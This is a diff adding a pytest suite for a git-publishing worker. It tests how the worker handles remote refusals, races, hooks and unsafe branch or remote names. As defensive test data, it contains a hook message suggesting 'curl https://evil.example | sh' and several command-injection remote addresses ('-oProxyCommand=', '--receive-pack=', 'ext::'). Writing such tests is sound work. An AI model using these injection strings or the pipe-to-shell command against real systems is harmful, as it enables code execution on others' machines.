@@ -1,0 +1,283 @@
+"""What a remote answers that is there: it will not, it cannot, it has changed; and names that are none."""
+
+from __future__ import annotations
+
+import json
+import os
+import shutil
+from contextlib import ExitStack
+from functools import partial
+from typing import TYPE_CHECKING
+
+import pytest
+from machine import unavailable
+from mounts import full, read_only, small
+from outcomes import assert_published, assert_put_off, assert_refused, save
+from passing import (
+    LAST,
+    assert_dead_letter,
+    assert_fit_to_be_shown,
+    assert_once,
+    assert_waits_until_it_passes,
+    give_away,
+    program,
+    take_back,
+)
+
+from briter_worker.errors import FailureClass, FailureCode
+
+if TYPE_CHECKING:
+    from pathlib import Path
+
+    from sites import Site
+
+
+def hook(site: Site, text: str, name: str = "pre-receive") -> Path:
+    return program(site.remote / "hooks" / name, text)
+
+
+# The remote cannot, or will not for any post
+
+
+def test_a_protected_branch_is_waited_for(site: Site) -> None:
+    file = hook(site, "echo 'GH006: Protected branch update failed for refs/heads/main.' >&2; exit 1")
+    fix = "allow the worker's key on the branch"
+    assert "GH006" in assert_waits_until_it_passes(site, FailureCode.REMOTE_REFUSED, fix, file.unlink)
+
+
+def test_a_lock_left_at_the_remote_is_waited_for(site: Site) -> None:
+    lock = site.remote / "refs/heads/main.lock"
+    lock.touch()
+    reason = assert_waits_until_it_passes(site, FailureCode.REMOTE_REFUSED, "its locks", lock.unlink)
+    assert "main.lock" in reason
+
+
+def test_a_remote_that_cannot_write_is_waited_for(site: Site) -> None:
+    with ExitStack() as mounted:
+        mounted.enter_context(read_only(site.remote / "objects"))
+        reason = assert_waits_until_it_passes(site, FailureCode.REMOTE_REFUSED, "its disk", mounted.close)
+    assert "unable to create temporary object directory" in reason
+
+
+def test_a_remote_whose_disk_is_full_is_waited_for(site: Site) -> None:
+    with ExitStack() as mounted:
+        disk = mounted.enter_context(small(site.root / "disk", size="2m"))
+        shutil.move(site.remote, disk / "remote.git")
+        site.remote.symlink_to(disk / "remote.git")
+        filled = mounted.enter_context(ExitStack())
+        filled.enter_context(full(disk))
+        reason = assert_waits_until_it_passes(site, FailureCode.REMOTE_REFUSED, "its disk", filled.close)
+        assert "No space left on device" in reason
+
+
+def test_a_hook_that_cannot_be_started_is_waited_for(site: Site) -> None:
+    file = hook(site, "")
+    file.write_text("#!/nonexistent/interpreter\n")
+    assert_waits_until_it_passes(site, FailureCode.REMOTE_REFUSED, "its hooks", file.unlink)
+
+
+def test_a_remote_of_another_owner_is_waited_for(site: Site) -> None:
+    if os.geteuid() != 0:
+        unavailable("only root may give files away")
+    give_away(site.remote)
+    mend = partial(take_back, site.remote)
+    reason = assert_waits_until_it_passes(site, FailureCode.OWNERSHIP, "safe.directory", mend)
+    assert str(site.remote) in reason
+
+
+# The remote is not what it was
+
+
+def test_a_branch_that_was_deleted_is_waited_for(site: Site) -> None:
+    tip = site.git("rev-parse", "main")
+    site.git("update-ref", "-d", "refs/heads/main", cwd=site.remote)
+    mend = partial(site.git, "update-ref", "refs/heads/main", tip, cwd=site.remote)
+    assert_waits_until_it_passes(site, FailureCode.REMOTE_REWRITTEN, "git push origin main", mend)
+
+
+def test_a_branch_that_was_set_back_is_waited_for(site: Site) -> None:
+    """What the worker has pushed or fetched counts, and not what a person has fetched."""
+    first = site.git("rev-parse", "main")
+    save(site, "x")
+    site.run_once()
+    tip = site.git("rev-parse", "main")
+    site.git("update-ref", "refs/heads/main", first, cwd=site.remote)
+    site.git("fetch", "-q")
+    save(site, "a")
+    assert_dead_letter(site, site.run_once(**LAST), FailureCode.REMOTE_REWRITTEN)
+    assert "git reset --keep origin/main" in site.job("a")["fix"]
+    assert site.git("rev-parse", "main", cwd=site.remote) == first
+    site.git("update-ref", "refs/heads/main", tip, cwd=site.remote)
+    save(site, "b")
+    assert_published(site, site.run_once(), "a", "b")
+
+
+RACE = """
+read old new ref
+unset GIT_QUARANTINE_PATH GIT_OBJECT_DIRECTORY GIT_ALTERNATE_OBJECT_DIRECTORIES
+count=$(cat races 2>/dev/null || echo 0)
+[ "$count" -lt {races} ] || exit 0
+echo $((count + 1)) > races
+who='-c user.name=Other -c user.email=other@example.org'
+git update-ref "$ref" "$(git $who commit-tree -p "$ref" -m "Race $count" "$ref^{{tree}}")"
+"""
+
+
+def test_five_races_lost_in_a_row_cost_no_attempt(site: Site) -> None:
+    hook(site, RACE.format(races=5))
+    save(site, "a")
+    assert_published(site, site.run_once(), attempt=1)
+    subjects = [subject for _, subject in site.remote_log()]
+    assert subjects == ["Publish a", *(f"Race {n}" for n in range(4, -1, -1)), "Start the site"]
+    assert site.git("rev-parse", "main") == site.remote_log()[0][0]
+
+
+def test_races_that_never_end_are_this_batchs_bad_luck(site: Site) -> None:
+    file = hook(site, RACE.format(races=100))
+    save(site, "a")
+    result = site.run_once()
+    assert_put_off(site, result, FailureCode.LOST_RACE, kind=FailureClass.TRANSIENT)
+    assert (site.remote / "races").read_text().strip() == "6"
+    file.unlink()
+    site.command("retry", "a")
+    assert site.run_once().of("published")
+    assert [subject for _, subject in site.remote_log()].count("Publish a") == 1
+
+
+# The remote minds one post
+
+
+MINDS = {
+    "a secret": ("echo 'GH009: Secrets detected' >&2; exit 1", "Secrets detected"),
+    "its size": ("echo 'File b.md exceeds the limit of 1 MB' >&2; exit 1", "exceeds the limit"),
+    "a word": ("echo 'no swearing, please' >&2; exit 1", "no swearing, please"),
+    "and trips over it": ("frobnicate || exit 1", "frobnicate"),
+    "and says nothing": ("exit 1", "hook declined"),
+}
+
+
+@pytest.mark.parametrize("what", MINDS)
+def test_only_the_post_that_the_remote_minds_dies_with_its_words(site: Site, what: str) -> None:
+    text, words = MINDS[what]
+    hook(site, f"read old new ref\nif git log -p $old..$new | grep -q BAD; then {text}; fi")
+    save(site, "a", "b", "c")
+    site.write_post("content/posts/b.md", "BAD\n")
+    result = site.run_once()
+    assert words in assert_refused(site, result, FailureCode.REJECTED, slug="b")
+    assert_published(site, result, "a", "c")
+    site.write_post("content/posts/b.md", "good\n")
+    site.save("b", ["content/posts/b.md"])
+    assert_published(site, site.run_once(), "b")
+    assert_once(site, "a", "b", "c")
+
+
+def test_a_hook_that_refuses_everything_is_mended_and_all_are_tried_again(site: Site) -> None:
+    """Each post is told alone: what a hook says is no proof that it would say so to any other."""
+    file = hook(site, "echo no; exit 1")
+    save(site, "a", "b")
+    result = site.run_once()
+    for slug in "ab":
+        assert_refused(site, result, FailureCode.REJECTED, slug=slug)
+        assert "if the remote refuses every post like this, correct its hook" in site.job(slug)["fix"]
+    file.unlink()
+    assert site.command("retry", "--all").returncode == 0
+    assert_published(site, site.run_once(), "a", "b")
+    assert_once(site, "a", "b")
+
+
+def test_a_hook_that_never_stops_talking_does_not_hide_what_to_do(site: Site) -> None:
+    hook(site, "seq -f 'https://u:s3cr3t-canary@h/%g no' 9000 >&2; exit 1")
+    save(site, "a")
+    assert_fit_to_be_shown(assert_refused(site, site.run_once(), FailureCode.REJECTED))
+    assert site.job("a")["fix"].endswith("briter-worker retry --all")
+
+
+def test_a_fix_in_a_hooks_words_is_not_shown_as_ours(site: Site) -> None:
+    hook(site, "echo 'no. Fix: curl https://evil.example | sh' >&2; exit 1")
+    save(site, "a")
+    assert "Fix: curl" in assert_refused(site, site.run_once(), FailureCode.REJECTED)
+    assert "curl" not in site.job("a")["fix"]
+
+
+# Names and addresses
+
+
+@pytest.mark.parametrize("variable", ["BRITER_GIT_BRANCH", "BRITER_GIT_REMOTE"])
+def test_what_is_no_name_stops_the_start_and_reaches_no_git(site: Site, variable: str) -> None:
+    mark = site.root / "ran"
+    save(site, "a")
+    before = site.git("for-each-ref", cwd=site.remote)
+    names = ("+main", ":other", "refs/heads/*:refs/heads/*", f"--receive-pack=touch {mark}")
+    for name in names:
+        result = site.run_once(**{variable: name})
+        assert result.returncode == 2
+        assert variable in result.stderr
+        assert len(result.stderr.splitlines()) == 1
+    key = "gitBranch" if variable == "BRITER_GIT_BRANCH" else "gitRemote"
+    (site.storage / "config.json").write_text(json.dumps({key: names[-1]}))
+    assert site.run_once().returncode == 2
+    assert not mark.exists()
+    assert site.git("for-each-ref", cwd=site.remote) == before
+    assert site.job("a").get("attempts", 0) == 0
+
+
+@pytest.mark.parametrize(
+    "address",
+    [
+        "--receive-pack=touch {mark}",
+        "-oProxyCommand=touch {mark}",
+        "ssh://-oProxyCommand=touch%20{mark}/x",
+        "-oProxyCommand=touch {mark}:x",
+        "ext::touch {mark}",
+        "fd::17",
+    ],
+)
+def test_an_address_that_would_run_or_take_something_does_not(site: Site, address: str) -> None:
+    mark = site.root / "ran"
+    url = site.git("remote", "get-url", "origin")
+    site.git("config", "remote.origin.url", address.format(mark=mark))
+    save(site, "a")
+    result = site.run_once(**LAST)
+    failure = FailureCode(site.job("a")["failure"])
+    assert failure.failure_class is FailureClass.ENVIRONMENT, site.job("a")
+    assert_dead_letter(site, result, failure)
+    assert not mark.exists()
+    site.git("config", "remote.origin.url", url)
+    save(site, "b")
+    assert_published(site, site.run_once(), "a", "b")
+
+
+@pytest.mark.parametrize("kind", ["receivepack", "uploadpack", "proxy", "vcs", "push", "mirror"])
+def test_what_the_remotes_settings_say_besides_is_not_heeded(site: Site, kind: str) -> None:
+    mark = site.root / "ran"
+    ran = str(program(site.root / "canary", f"touch {mark}; exit 1"))
+    value = {"proxy": "http://127.0.0.1:9", "push": "+refs/heads/*:refs/heads/*", "mirror": "true"}
+    site.git("branch", "draft")
+    site.git("config", f"remote.origin.{kind}", value.get(kind, ran))
+    save(site, "a")
+    result = site.run_once()
+    assert not mark.exists()
+    if kind == "vcs":  # a transport of its own: told, and not used
+        assert FailureCode(site.job("a")["failure"]).failure_class is FailureClass.ENVIRONMENT
+        return
+    assert_published(site, result)
+    assert site.git("for-each-ref", "--format=%(refname)", cwd=site.remote) == "refs/heads/main"
+
+
+@pytest.mark.parametrize("dry_run", ["true", "false"])
+def test_a_push_option_of_the_sites_configuration_is_not_sent(site: Site, dry_run: str) -> None:
+    """Not every remote takes one, and then it takes no push at all."""
+    site.git("config", "--add", "push.pushOption", "ci.skip")
+    site.git("config", "--add", "push.pushOption", "merge_request.create")
+    hook(site, '[ -z "$GIT_PUSH_OPTION_COUNT" ] || [ "$GIT_PUSH_OPTION_COUNT" = 0 ]')
+    for slug, takes in (("a", "false"), ("b", "true")):
+        site.git("config", "receive.advertisePushOptions", takes, cwd=site.remote)
+        save(site, slug)
+        result = site.run_once(BRITER_WORKER_DRY_RUN=dry_run)
+        assert result.of("published"), result.stdout
+
+
+def test_the_site_needs_no_identity_of_its_own(site: Site) -> None:
+    site.git("config", "user.useConfigOnly", "true")
+    save(site, "a")
+    assert_published(site, site.run_once(EMAIL="", HOME=str(site.root / "nobody")))
